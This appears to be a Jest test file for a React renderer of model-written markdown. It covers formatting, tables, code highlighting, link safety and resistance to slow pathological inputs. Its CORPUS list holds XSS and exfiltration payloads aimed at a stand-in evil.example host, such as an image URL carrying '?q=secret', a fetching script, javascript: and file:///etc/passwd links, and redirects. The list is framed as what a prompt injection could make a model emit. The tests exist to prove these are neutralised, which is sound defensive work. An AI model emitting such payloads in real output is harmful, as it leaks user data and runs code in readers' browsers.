/** @jest-environment jsdom */
import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { useState } from 'react';
import { guard } from '@/components/tool/rich-text/guard';
import { highlight } from '@/components/tool/rich-text/highlight';
import { RichText } from '@/components/tool/rich-text/rich-text';
import { safeLink } from '@/components/tool/rich-text/safe-link';
import { ServerRichText } from '@/components/tool/rich-text/server-rich-text';
import { renderWords } from '@/tests/support/render-words';

const show = (text: string) => renderWords(<RichText text={text} />).container;

describe('the text of a model', () => {
  it('becomes headings, lists within lists, tasks, quotes and rules', () => {
    const box = show(
      '# One\n\ntwo\nthree\n\n- a\n  1. b\n  2. c\n- d\n\n4. e\n\n- [x] milk\n- [ ] bread\n\n> q\n> > r\n\n---\n\n~~old~~ **b** *i* `c`',
    );
    expect(screen.getByRole('heading', { name: 'One', level: 3 })).toBeTruthy();
    expect(box.querySelectorAll('ul > li > div > ol > li')).toHaveLength(2);
    expect(box.querySelector('ol[start="4"]')?.textContent).toBe('e');
    expect(screen.getByText('Done:').closest('li')?.textContent).toBe('Done:milk');
    expect(screen.getByText('To do:').closest('li')?.textContent).toBe('To do:bread');
    expect(box.querySelector('blockquote blockquote')?.textContent).toBe('r');
    for (const tag of ['hr', 'del', 'strong', 'em', 'code']) expect(box.querySelector(tag)).not.toBeNull();
  });

  it('becomes a table with sides, in a box that the keyboard can scroll, to be copied as CSV', async () => {
    const user = userEvent.setup();
    show('| Name | Price |\n| :--- | ---: |\n| **Ada** | 3 |\n| `=1` | [x](https://a.example) |');
    const cells = within(screen.getByRole('table')).getAllByRole('cell');
    expect(cells.map((cell) => cell.textContent)).toEqual(['Ada', '3', '=1', 'x (a.example)']);
    expect(cells[1]!.className).toContain('text-end');
    expect(screen.getByRole('region', { name: 'Table' }).tabIndex).toBe(0);
    await user.click(screen.getByRole('button', { name: 'Copy this table as CSV' }));
    expect(await navigator.clipboard.readText()).toBe(`Name,Price\r\nAda,3\r\n'=1,x\r\n`);
  });

  it('becomes code with its language, whole also while it is arriving', async () => {
    const user = userEvent.setup();
    const box = show('Text\n\n```js title="x"\nconst a = "<b>";\n');
    expect(box.querySelector('pre')?.textContent).toBe('const a = "<b>";');
    expect(screen.getByRole('region', { name: 'Code, js' })).toBeTruthy();
    await user.click(screen.getByRole('button', { name: 'Copy this code' }));
    expect(await navigator.clipboard.readText()).toBe('const a = "<b>";');
    expect(screen.getByRole('status').textContent).toBe('Copied');
  });

  it('has its code in colours from the server, letter for letter', () => {
    const code = 'def f(x):\n    return "<script>" # no';
    const { container } = renderWords(<ServerRichText text={`\`\`\`python\n${code}\n\`\`\``} />);
    expect(container.querySelector('pre')?.textContent).toBe(code);
    expect([...container.querySelectorAll('pre span')].map((span) => span.textContent)).toEqual(
      expect.arrayContaining(['def', 'return', '"<script>"', '# no']),
    );
    expect(highlight('x', 'klingon')).toBeNull();
    expect(highlight('x'.repeat(30_000), 'js')).toBeNull();
  });

  it('leaves formulas, prices and names of letters as people read them', () => {
    expect(show('\\(a_1 * b_2\\) and $x_1 * y_2$ and $$\\sum_i *a*$$').textContent).toBe(
      '\\(a_1 * b_2\\) and $x_1 * y_2$ and $$\\sum_i *a*$$',
    );
    expect(show('$5 and **$10**').querySelector('strong')?.textContent).toBe('$10');
    expect(show('a &amp; b &lt;i&gt; &#9731; &bogus; 2 * 3 * 4').textContent).toBe('a & b <i> ☃ &bogus; 2 * 3 * 4');
  });

  it('keeps what stands still while the rest grows', async () => {
    const Growing = () => {
      const [text, setText] = useState('First\n\nSec');
      return (
        <>
          <RichText text={text} />
          <button onClick={() => setText(`${text}ond`)} />
        </>
      );
    };
    const { container } = renderWords(<Growing />);
    const first = container.querySelector('p');
    await userEvent.setup().click(screen.getByRole('button'));
    expect(container.querySelector('p')).toBe(first);
    expect(container.textContent).toBe('FirstSecond');
  });
});

/** What a prompt that was smuggled in could make a model write. */
const CORPUS = [
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/a.png)',
  '![x][r]\n\n[r]: https://evil.example/a.png',
  '<img src="https://evil.example/a.png" onerror="alert(1)">',
  '<script>fetch("https://evil.example")</script>',
  '<svg onload=alert(1)><use href="https://evil.example/a.svg#x"/></svg>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example"</style>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
  '<video src="https://evil.example/a.mp4" autoplay></video><audio src=//evil.example/a></audio>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java&#115;cript:alert(1)) [x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](blob:x)',
  '[x](https://user:pass@evil.example/) [x](/account) [x](../admin) [x](#top) [x](//evil.example)',
  '<https://evil.example/auto> <javascript:alert(1)>',
  '[![i](https://evil.example/i.png)](https://evil.example/click)',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| ![x](https://evil.example/t.png) | <img src=x onerror=alert(1)> |\n| - | - |\n| <script>1</script> | [a](javascript:1) |',
  '# <img src=x onerror=alert(1)>\n- <img src=x onerror=alert(1)>\n> <img src=x onerror=alert(1)>',
  'a\u202e[x](https://evil.example)\u0000<img/src/onerror=alert(1)>',
];
const LOADS =
  'img,script,iframe,object,embed,link,style,video,audio,source,form,input,base,meta,picture,[src],[srcset],[style],[background]';

describe.each(CORPUS)('asks nobody for anything and runs nothing: %j', (text) => {
  it('in a browser and on a server', () => {
    for (const element of [<RichText key="a" text={text} />, <ServerRichText key="b" text={text} />]) {
      const { container, unmount } = renderWords(element);
      expect([...container.querySelectorAll(LOADS)]).toEqual([]);
      for (const node of container.querySelectorAll('*')) {
        for (const { name, value } of node.attributes) {
          expect(name.startsWith('on')).toBe(false);
          if (name === 'href') expect(value).toMatch(/^(https?:\/\/[^@]*|mailto:.*)$/);
        }
      }
      for (const link of container.querySelectorAll('a')) {
        expect(link.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
        expect(`${link.textContent} ${link.nextSibling?.textContent ?? ''}`).toContain('evil.example');
      }
      unmount();
    }
  });
});

describe('a text that is made to take long', () => {
  it.each([
    ['quotes', '> '.repeat(5_000)],
    ['lists', Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['lists in one line', '- '.repeat(5_000)],
    ['stars', '*a'.repeat(20_000)],
    ['underscores over lines', Array.from({ length: 500 }, () => '_a'.repeat(100)).join('\n')],
    ['brackets', '['.repeat(20_000)],
    ['pictures', '![a]('.repeat(10_000)],
    ['ticks', '`a``b```'.repeat(5_000)],
    ['angles', '<a '.repeat(10_000)],
    ['a table', `${'|a'.repeat(3_000)}\n${'|-'.repeat(3_000)}`],
    ['formulas', '$a '.repeat(20_000)],
    ['brackets of formulas', '\\['.repeat(20_000)],
    ['length', 'lorem *ipsum* dolor\n\n'.repeat(20_000)],
  ])('is done with soon: %s', (_, text) => {
    const from = performance.now();
    const { unmount } = renderWords(<ServerRichText text={text} />);
    unmount();
    expect(performance.now() - from).toBeLessThan(10_000);
  });

  it('keeps its words', () => {
    const long = `${'word '.repeat(40_000)}end`;
    expect(show(long).textContent?.replace(/\s+/g, ' ')).toBe(long);
    const code = ['```', '          *'.repeat(300)].join('\n');
    expect(guard(code)).toEqual([{ isPlain: false, text: code }]);
    expect(show('*a'.repeat(2_000)).textContent).toBe('*a'.repeat(2_000));
  });
});

describe('what a hostile answer may cost the server', () => {
  const fence = (code: string, language = 'typescript') => `\`\`\`${language}\n${code}\n\`\`\`\n\n`;

  it('is an address that cannot be read: it is shown as it is', () => {
    const { container } = renderWords(<ServerRichText text="[write](mailto:%zz) <mailto:a%ff@b.example>" />);
    expect(container.querySelector('a')?.getAttribute('href')).toBe('mailto:%zz');
    expect(container.textContent).toContain('write');
  });

  it('is code within code by the thousand: it stays in one colour', () => {
    expect(() => highlight('${`'.repeat(3_000), 'javascript')).not.toThrow();
    expect(() => highlight('#{"'.repeat(3_000), 'ruby')).not.toThrow();
  });

  it('is colours for 8,000 characters of code, in whatever boxes', () => {
    const { container } = renderWords(<ServerRichText text={fence('let a = 1;\n'.repeat(300)).repeat(4)} />);
    const boxes = [...container.querySelectorAll('pre')].map((box) => box.querySelectorAll('span').length > 0);
    expect(boxes).toEqual([true, true, false, false]);
    const before = process.cpuUsage();
    renderWords(<ServerRichText text={fence('a'.repeat(10_000)).repeat(5)} />);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(1_000);
  });
});

it('takes for a link what leads to the web or a mailbox, and says where', () => {
  expect(safeLink('https://a.example/x?y#z', 'here')).toEqual({ href: 'https://a.example/x?y#z', host: 'a.example' });
  expect(safeLink('https://a.example/x', 'https://A.example/x')).toEqual({ href: 'https://a.example/x', host: null });
  expect(safeLink('mailto:a@b.example', 'write')).toEqual({ href: 'mailto:a@b.example', host: 'a@b.example' });
  expect(safeLink('https://evil.example/', 'https://bank.example/?evil.example')?.host).toBe('evil.example');
  expect(safeLink('https://evil.example/', 'evil.example is safe')?.host).toBe('evil.example');
  for (const href of ['', 'x', '/x', 'ftp://x', 'javascript:1', 'https://a:b@c.example', 'http://']) {
    expect(safeLink(href, 'x')).toBeNull();
  }
});
